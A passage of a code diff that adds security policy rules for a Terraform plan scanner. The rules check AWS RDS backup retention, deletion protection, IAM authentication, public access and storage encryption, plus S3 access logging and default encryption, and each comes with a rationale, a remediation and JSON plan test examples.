+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"domain_name": "search", "node_to_node_encryption": [{"enabled": ↓false}]}}},
+            {"address": ↓"aws_elasticsearch_domain.logs", "mode": "managed", "type": "aws_elasticsearch_domain", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"node_to_node_encryption": true},
+               "after": {"domain_name": "logs"}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_elasticsearch_domain.logs", "mode": "managed", "type": "aws_elasticsearch_domain", "name": "logs", "provider_config_key": "aws",
+             "expressions": {"domain_name": {"constant_value": "logs"}}}]}}}
+        """ expect "'aws_opensearch_domain.search' has node-to-node encryption disabled"
+            expect "'aws_elasticsearch_domain.logs' does not enable node-to-node encryption"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"node_to_node_encryption": [{"enabled": true}]},
+               "after": {"domain_name": "search", "node_to_node_encryption": [{}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/rds_backup_retention_short.plumb",
+      text: #"""
+      rule rds_backup_retention_short {
+        title "RDS databases keep automated backups long enough"
+        severity medium
+        category security
+        tags [terraform, aws, rds, backup]
+        rationale """
+          `backup_retention_period = 0` turns automated backups and point-in-time recovery off; a short
+          period means that corruption, a bad migration or a malicious deletion noticed after a long
+          weekend can no longer be undone. The RDS API default is one day.
+        """
+        remediation """
+          Set `backup_retention_period` to at least the `min_days` parameter (7 by default; RDS allows up
+          to 35), and keep longer-term copies with AWS Backup if you need them.
+        """
+        param min_days: int = 7
+
+        for db in terraform.resource("aws_db_instance", "aws_rds_cluster")
+        when not is_null(db.after)
+        # Read replicas rely on their source's backups.
+        when (is_empty(db.after.replicate_source_db) or (exists(db.provider.key) and not exists(db.config.replicate_source_db)))
+          and (is_empty(db.after.replication_source_identifier) or (exists(db.provider.key) and not exists(db.config.replication_source_identifier)))
+        # Computed when the configuration does not set it (or absent from a trimmed plan): the RDS API
+        # default of 1 day applies.
+        let unset = (exists(db.provider.key) and not exists(db.config.backup_retention_period) and is_unknown(db.after.backup_retention_period))
+          or is_null(db.after.backup_retention_period) or not exists(db.after.backup_retention_period)
+        require not unset or param.min_days <= 1
+          else "'${db.address}' does not set backup_retention_period (RDS keeps 1 day), less than ${param.min_days}" at db.address
+        require unset or db.after.backup_retention_period >= param.min_days
+          else "'${db.address}' keeps backups for ${db.after.backup_retention_period} days, less than ${param.min_days}" at db.after.backup_retention_period
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"engine": "postgres", "replicate_source_db": null, "backup_retention_period": 14}}},
+            {"address": "aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"engine": "aurora-postgresql", "backup_retention_period": 7}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"engine": "mysql", "replicate_source_db": null, "backup_retention_period": ↓0}}},
+            {"address": ↓"aws_db_instance.reports", "mode": "managed", "type": "aws_db_instance", "name": "reports",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"backup_retention_period": true},
+               "after": {"engine": "mysql", "replicate_source_db": null}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_db_instance.reports", "mode": "managed", "type": "aws_db_instance", "name": "reports", "provider_config_key": "aws",
+             "expressions": {"engine": {"constant_value": "mysql"}}}]}}}
+        """ expect "'aws_db_instance.app' keeps backups for 0 days, less than 7"
+            expect "'aws_db_instance.reports' does not set backup_retention_period"
+        example indeterminate "retention from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"backup_retention_period": true},
+               "after": {"engine": "aurora-postgresql", "replication_source_identifier": null}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/rds_deletion_protection_disabled.plumb",
+      text: #"""
+      rule rds_deletion_protection_disabled {
+        title "RDS databases have deletion protection"
+        severity medium
+        category security
+        tags [terraform, aws, rds, backup]
+        rationale """
+          Without deletion protection one `terraform destroy`, a renamed resource that Terraform
+          replaces, or a compromised credential with `rds:DeleteDBInstance` removes the database; with
+          `skip_final_snapshot` or `delete_automated_backups` its backups go with it.
+        """
+        remediation """
+          Set `deletion_protection = true`. To apply the rule only to some environments, set the
+          parameters `environment_tag` and `environments` (for example "environment" and
+          ["production"]): databases tagged otherwise are then not judged.
+        """
+        param environment_tag: string = "environment"
+        param environments: list<string> = []
+
+        for db in terraform.resource("aws_db_instance", "aws_rds_cluster")
+        when not is_null(db.after)
+        when count(param.environments) == 0 or lower(default(db.tags[param.environment_tag], "")) in param.environments
+        require db.after.deletion_protection == true
+          else "'${db.address}' has deletion_protection = ${default(db.after.deletion_protection, false)}" at db.after.deletion_protection
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"engine": "postgres", "deletion_protection": true}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"engine": "mysql", "deletion_protection": ↓null}}},
+            {"address": "aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"engine": "aurora-mysql", "deletion_protection": ↓false}}}]}
+        """ expect "'aws_db_instance.app' has deletion_protection = false" expect "'aws_rds_cluster.aurora' has deletion_protection = false"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"engine": "mysql"}, "after_unknown": {"deletion_protection": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/rds_iam_authentication_disabled.plumb",
+      text: #"""
+      rule rds_iam_authentication_disabled {
+        title "RDS databases accept IAM authentication"
+        severity low
+        category security
+        tags [terraform, aws, rds, iam]
+        rationale """
+          With IAM database authentication, applications and people connect with short-lived tokens
+          tied to an IAM role, instead of long-lived passwords that end up in configuration files,
+          CI variables and laptops and are rarely rotated. Access is then granted and revoked in IAM and
+          recorded in CloudTrail.
+        """
+        remediation """
+          Set `iam_database_authentication_enabled = true` and grant `rds-db:connect` to the roles that
+          need it (the `rds_iam` role in PostgreSQL, `AWSAuthenticationPlugin` in MySQL). Only MySQL,
+          MariaDB, PostgreSQL and Aurora engines support it; other engines are not judged.
+        """
+        param engines: string = "^(mysql|mariadb|postgres|aurora)"
+
+        for db in terraform.resource("aws_db_instance", "aws_rds_cluster")
+        when not is_null(db.after)
+        when db.after.engine matches param.engines
+        require db.after.iam_database_authentication_enabled == true
+          else "'${db.address}' (${db.after.engine}) has iam_database_authentication_enabled = ${default(db.after.iam_database_authentication_enabled, false)}"
+          at db.after.iam_database_authentication_enabled
+          fix { set db.after.iam_database_authentication_enabled = true }
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"engine": "postgres", "iam_database_authentication_enabled": true}}},
+            {"address": "aws_db_instance.erp", "mode": "managed", "type": "aws_db_instance", "name": "erp",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"engine": "oracle-ee", "iam_database_authentication_enabled": null}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"engine": "mysql", "iam_database_authentication_enabled": ↓null}}},
+            {"address": "aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"engine": "aurora-postgresql", "iam_database_authentication_enabled": ↓false}}}]}
+        """ expect "'aws_db_instance.app' (mysql) has iam_database_authentication_enabled = false"
+            expect "'aws_rds_cluster.aurora' (aurora-postgresql) has iam_database_authentication_enabled = false"
+        example indeterminate "engine known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"iam_database_authentication_enabled": false}, "after_unknown": {"engine": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/rds_publicly_accessible.plumb",
+      text: #"""
+      rule rds_publicly_accessible {
+        title "RDS databases are not publicly accessible"
+        severity critical
+        category security
+        tags [terraform, aws, rds, network]
+        rationale """
+          `publicly_accessible = true` gives the database a public IP address and a DNS name that
+          resolves to it. Database ports reachable from the internet are scanned continuously and
+          attacked with credential stuffing and engine exploits; one permissive security group rule
+          is then all that stands between the data and everyone.
+        """
+        remediation """
+          Set `publicly_accessible = false`, place the database in private subnets, and reach it
+          through the application, a bastion, SSM port forwarding or a VPN.
+        """
+
+        for db in terraform.resource("aws_db_instance", "aws_rds_cluster_instance")
+        when not is_null(db.after)
+        require db.after.publicly_accessible != true
+          else "'${db.address}' is publicly accessible" at db.after.publicly_accessible
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"endpoint": true},
+               "after": {"engine": "postgres", "publicly_accessible": false}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"endpoint": true},
+               "after": {"engine": "mysql", "publicly_accessible": ↓true}}},
+            {"address": "aws_rds_cluster_instance.a", "mode": "managed", "type": "aws_rds_cluster_instance", "name": "a",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"endpoint": true},
+               "after": {"engine": "aurora-postgresql", "publicly_accessible": ↓true}}}]}
+        """ expect "'aws_db_instance.app' is publicly accessible" expect "'aws_rds_cluster_instance.a' is publicly accessible"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"engine": "mysql"}, "after_unknown": {"publicly_accessible": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/rds_storage_not_encrypted.plumb",
+      text: #"""
+      rule rds_storage_not_encrypted {
+        title "RDS databases encrypt their storage"
+        severity high
+        category security
+        tags [terraform, aws, rds, encryption]
+        rationale """
+          Unencrypted RDS storage leaves the data, its automated backups, snapshots and read replicas
+          readable to anyone who gets hold of a snapshot: a snapshot shared by mistake or copied to
+          another account is a complete copy of the database. Encryption cannot be turned on later
+          without restoring into a new instance.
+        """
+        remediation """
+          Set `storage_encrypted = true` (with `kms_key_id` for a customer managed key). For an existing
+          database, snapshot it, copy the snapshot with encryption, and restore from the copy.
+        """
+
+        for db in terraform.resource("aws_db_instance", "aws_rds_cluster")
+        when not is_null(db.after)
+        # A read replica inherits its source's encryption.
+        when (is_empty(db.after.replicate_source_db) or (exists(db.provider.key) and not exists(db.config.replicate_source_db)))
+          and (is_empty(db.after.replication_source_identifier) or (exists(db.provider.key) and not exists(db.config.replication_source_identifier)))
+        # Aurora Serverless v1 storage is always encrypted.
+        when db.after.engine_mode != "serverless"
+        # aws_rds_cluster computes storage_encrypted when the configuration does not set it: unencrypted.
+        let unset = exists(db.provider.key) and not exists(db.config.storage_encrypted) and is_unknown(db.after.storage_encrypted)
+        require not unset
+          else "'${db.address}' does not set storage_encrypted (its storage is unencrypted)" at db.address
+        require unset or db.after.storage_encrypted == true
+          else "'${db.address}' has storage_encrypted = ${db.after.storage_encrypted}" at db.after.storage_encrypted
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"kms_key_id": true},
+               "after": {"engine": "postgres", "replicate_source_db": null, "storage_encrypted": true}}},
+            {"address": "aws_db_instance.replica", "mode": "managed", "type": "aws_db_instance", "name": "replica",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"storage_encrypted": true},
+               "after": {"engine": "postgres", "replicate_source_db": "app"}}}]}
+        """
+        example fail """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"engine": "mysql", "replicate_source_db": null, "storage_encrypted": ↓false}}},
+            {"address": ↓"aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"storage_encrypted": true},
+               "after": {"engine": "aurora-mysql", "engine_mode": "provisioned", "replication_source_identifier": null}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora", "provider_config_key": "aws",
+             "expressions": {"engine": {"constant_value": "aurora-mysql"}}}]}}}
+        """ expect "'aws_db_instance.app' has storage_encrypted = false"
+            expect "'aws_rds_cluster.aurora' does not set storage_encrypted"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"storage_encrypted": true},
+               "after": {"engine": "aurora-mysql", "engine_mode": "provisioned", "replication_source_identifier": null}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora", "provider_config_key": "aws",
+             "expressions": {"storage_encrypted": {"references": ["var.encrypted"]}}}]}}}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/s3_bucket_access_logging_missing.plumb",
+      text: #"""
+      rule s3_bucket_access_logging_missing {
+        title "S3 buckets have server access logging"
+        severity low
+        category security
+        tags [terraform, aws, s3, logging]
+        rationale """
+          Server access logs record every request to the bucket: who read which object, from where,
+          with which credentials. Without them (CloudTrail records object-level reads only when data
+          events are paid for), an investigation after a leaked key or a public-bucket incident cannot
+          tell what was taken.
+        """
+        remediation """
+          Add `resource "aws_s3_bucket_logging"` with `bucket = aws_s3_bucket.<name>.id` and a
+          `target_bucket` that collects logs (provider v4+), or a `logging { target_bucket = … }` block
+          on the bucket with older providers. Buckets that receive access logs are exempt (param
+          `exempt_log_targets`).
+        """
+        param exempt_log_targets: bool = true
+
+        for b in terraform.resource("aws_s3_bucket")
+        when not is_null(b.after)
+        let ref = "aws_s3_bucket." + b.name
+        let bucket_name = first(filter(x in [b.after.bucket], known(x)))
+        # A bucket that receives access logs does not log its own access (that would loop).
+        let log_target = count(terraform.resource("aws_s3_bucket_logging")[after.target_bucket == bucket_name])
+          + count(terraform.resource("aws_s3_bucket_logging")[config.target_bucket.references[0] == ref and module == b.module and file(it) == file(b)])
+          + count(terraform.resource("aws_s3_bucket_logging")[config.target_bucket.references[1] == ref and module == b.module and file(it) == file(b)])
+          + count(terraform.resource("aws_s3_bucket")[after.logging[0].target_bucket == bucket_name])
+          + count(terraform.resource("aws_s3_bucket")[config.logging[0].target_bucket.references[0] == ref and module == b.module and file(it) == file(b)])
+          + count(terraform.resource("aws_s3_bucket")[config.logging[0].target_bucket.references[1] == ref and module == b.module and file(it) == file(b)])
+        when not (param.exempt_log_targets and log_target > 0)
+        let loggings = count(terraform.resource("aws_s3_bucket_logging")[after.bucket == bucket_name])
+          + count(terraform.resource("aws_s3_bucket_logging")[config.bucket.references[0] == ref and module == b.module and file(it) == file(b)])
+          + count(terraform.resource("aws_s3_bucket_logging")[config.bucket.references[1] == ref and module == b.module and file(it) == file(b)])
+          + count(terraform.resource("aws_s3_bucket_logging")[config.bucket.references[2] == ref and module == b.module and file(it) == file(b)])
+          + count(terraform.resource("aws_s3_bucket_logging")[module == b.module and file(it) == file(b) and ref in config.bucket.references])
+        let opaque = terraform.resource("aws_s3_bucket_logging")[change.after_unknown.bucket == true and file(it) == file(b) and none(x in [config.bucket.references[0], config.bucket.references[1], config.bucket.references[2]], starts_with(x, "aws_s3_bucket."))]
+        let inline_unset = exists(b.provider.key) and not exists(b.config.logging) and is_unknown(b.after.logging)
+        let inline_on = not inline_unset and count(b.after.logging) > 0
+        require loggings > 0 or inline_on or any(p in opaque, p.after.bucket == b.after.bucket)
+          else "'${b.address}' has no server access logging" at b.address
+
+        example pass "logging resource" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "logging": true}}},
+            {"address": "aws_s3_bucket.logs", "mode": "managed", "type": "aws_s3_bucket", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-logs"}, "after_unknown": {"id": true, "logging": true}}},
+            {"address": "aws_s3_bucket_logging.data", "mode": "managed", "type": "aws_s3_bucket_logging", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"target_prefix": "data/"}, "after_unknown": {"bucket": true, "target_bucket": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
+             "expressions": {"bucket": {"constant_value": "acme-data"}}},
+            {"address": "aws_s3_bucket.logs", "mode": "managed", "type": "aws_s3_bucket", "name": "logs", "provider_config_key": "aws",
+             "expressions": {"bucket": {"constant_value": "acme-logs"}}},
+            {"address": "aws_s3_bucket_logging.data", "mode": "managed", "type": "aws_s3_bucket_logging", "name": "data", "provider_config_key": "aws",
+             "expressions": {"bucket": {"references": ["aws_s3_bucket.data.id", "aws_s3_bucket.data"]},
+                             "target_bucket": {"references": ["aws_s3_bucket.logs.id", "aws_s3_bucket.logs"]},
+                             "target_prefix": {"constant_value": "data/"}}}]}}}
+        """
+        example pass "legacy inline block" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"bucket": "acme-data", "logging": [{"target_bucket": "acme-logs", "target_prefix": "data/"}]}, "after_unknown": {"id": true}}}]}
+        """
+        example fail """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": ↓"aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data", "logging": []}, "after_unknown": {"id": true}}}]}
+        """ expect "'aws_s3_bucket.data' has no server access logging"
+        example indeterminate "logging whose bucket comes from a variable" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "logging": true}}},
+            {"address": "aws_s3_bucket_logging.any", "mode": "managed", "type": "aws_s3_bucket_logging", "name": "any",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"target_bucket": "acme-logs"}, "after_unknown": {"bucket": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
+             "expressions": {"bucket": {"constant_value": "acme-data"}}},
+            {"address": "aws_s3_bucket_logging.any", "mode": "managed", "type": "aws_s3_bucket_logging", "name": "any", "provider_config_key": "aws",
+             "expressions": {"bucket": {"references": ["var.bucket_id"]}, "target_bucket": {"constant_value": "acme-logs"}}}]}}}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/s3_bucket_encryption_missing.plumb",
+      text: #"""
+      rule s3_bucket_encryption_missing {
+        title "S3 buckets declare default server-side encryption"
+        severity low
+        category security
+        tags [terraform, aws, s3, encryption]
+        rationale """
+          A bucket without a server-side encryption configuration gets S3's implicit SSE-S3 (since
+          January 2023), with keys AWS owns and no key policy, no CloudTrail record of key use and no way
+          to revoke access by disabling a key. Declaring the default in Terraform makes the choice
+          explicit and reviewable, and is where SSE-KMS with your own key is chosen.
+        """
+        remediation """
+          Add `resource "aws_s3_bucket_server_side_encryption_configuration"` with `bucket =
+          aws_s3_bucket.<name>.id` and a `rule { apply_server_side_encryption_by_default { sse_algorithm
+          = "aws:kms", kms_master_key_id = aws_kms_key.<key>.arn } }` (provider v4+), or a
+          `server_side_encryption_configuration` block on the bucket with older providers.
+        """
+
+        for b in terraform.resource("aws_s3_bucket")
+        when not is_null(b.after)
+        let ref = "aws_s3_bucket." + b.name
+        let bucket_name = first(filter(x in [b.after.bucket], known(x)))
+        let configs = count(terraform.resource("aws_s3_bucket_server_side_encryption_configuration")[after.bucket == bucket_name])
+          + count(terraform.resource("aws_s3_bucket_server_side_encryption_configuration")[config.bucket.references[0] == ref and module == b.module and file(it) == file(b)])
+          + count(terraform.resource("aws_s3_bucket_server_side_encryption_configuration")[config.bucket.references[1] == ref and module == b.module and file(it) == file(b)])
+          + count(terraform.resource("aws_s3_bucket_server_side_encryption_configuration")[config.bucket.references[2] == ref and module == b.module and file(it) == file(b)])
+          + count(terraform.resource("aws_s3_bucket_server_side_encryption_configuration")[module == b.module and file(it) == file(b) and ref in config.bucket.references])
+        let opaque = terraform.resource("aws_s3_bucket_server_side_encryption_configuration")[change.after_unknown.bucket == true and file(it) == file(b) and none(x in [config.bucket.references[0], config.bucket.references[1], config.bucket.references[2]], starts_with(x, "aws_s3_bucket."))]
+        let inline_unset = exists(b.provider.key) and not exists(b.config.server_side_encryption_configuration)
+          and is_unknown(b.after.server_side_encryption_configuration)
+        let inline_on = not inline_unset and count(b.after.server_side_encryption_configuration) > 0
+        require configs > 0 or inline_on or any(p in opaque, p.after.bucket == b.after.bucket)
+          else "'${b.address}' declares no default server-side encryption" at b.address
+
+        example pass "encryption resource" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "server_side_encryption_configuration": true}}},
+            {"address": "aws_s3_bucket_server_side_encryption_configuration.data", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"rule": [{"apply_server_side_encryption_by_default": [{"sse_algorithm": "aws:kms"}], "bucket_key_enabled": true}]},
+               "after_unknown": {"bucket": true, "rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": true}]}]}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
+             "expressions": {"bucket": {"constant_value": "acme-data"}}},
+            {"address": "aws_s3_bucket_server_side_encryption_configuration.data", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "data", "provider_config_key": "aws",
+             "expressions": {"bucket": {"references": ["aws_s3_bucket.data.id", "aws_s3_bucket.data"]}}}]}}}
+        """
+        example pass "legacy inline block" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"bucket": "acme-data", "server_side_encryption_configuration": [{"rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": "", "sse_algorithm": "AES256"}]}]}]},
+               "after_unknown": {"id": true}}}]}
+        """
+        example fail """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": ↓"aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "server_side_encryption_configuration": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
+             "expressions": {"bucket": {"constant_value": "acme-data"}}}]}}}
+        """ expect "'aws_s3_bucket.data' declares no default server-side encryption"
+        example indeterminate "plan without configuration, block computed" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "server_side_encryption_configuration": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/s3_bucket_encryption_not_kms.plumb",
+      text: #"""
+      rule s3_bucket_encryption_not_kms {
+        title "S3 default encryption uses KMS with a customer managed key"
+        severity low
+        category security
+        tags [terraform, aws, s3, encryption, kms]
+        rationale """
+          With SSE-S3 (`AES256`) or the AWS-managed `aws/s3` key, anyone allowed `s3:GetObject` reads
+          the data: the key adds no second check, its policy cannot be changed, and it cannot be
+          disabled to cut off access during an incident. A customer managed KMS key adds its own policy,
+          logs every decryption in CloudTrail and can be revoked.
+        """
+        remediation """
+          Set `sse_algorithm = "aws:kms"` (or `"aws:kms:dsse"`) and `kms_master_key_id =
+          aws_kms_key.<key>.arn` in `apply_server_side_encryption_by_default`, and
+          `bucket_key_enabled = true` to keep KMS request costs low. Set the parameter
+          `require_customer_key` to false to accept the AWS-managed key.
+        """
+        param kms_algorithms: list<string> = ["aws:kms", "aws:kms:dsse"]
+        param require_customer_key: bool = true
+
+        for r in terraform.resource("aws_s3_bucket_server_side_encryption_configuration", "aws_s3_bucket")
+        when not is_null(r.after)
+        # Legacy inline configuration on aws_s3_bucket (computed when not written: nothing to check;
+        # s3_bucket_encryption_missing reports buckets without any configuration).
+        let inline_unset = exists(r.provider.key) and not exists(r.config.server_side_encryption_configuration)
+          and is_unknown(r.after.server_side_encryption_configuration)
+        when not inline_unset
+        let rules = flatten([default(r.after.rule, []), flatten(map(c in default(r.after.server_side_encryption_configuration, []), c.rule))])
+        let defaults = flatten(map(x in rules, x.apply_server_side_encryption_by_default))
+        let not_kms = filter(d in defaults, d.sse_algorithm not in param.kms_algorithms)
+        # A key ARN known only after apply that the configuration takes from an aws_kms_key resource is a
+        # customer managed key.
+        let config_rules = flatten([default(r.config.rule, []), flatten(map(c in default(r.config.server_side_encryption_configuration, []), c.rule))])
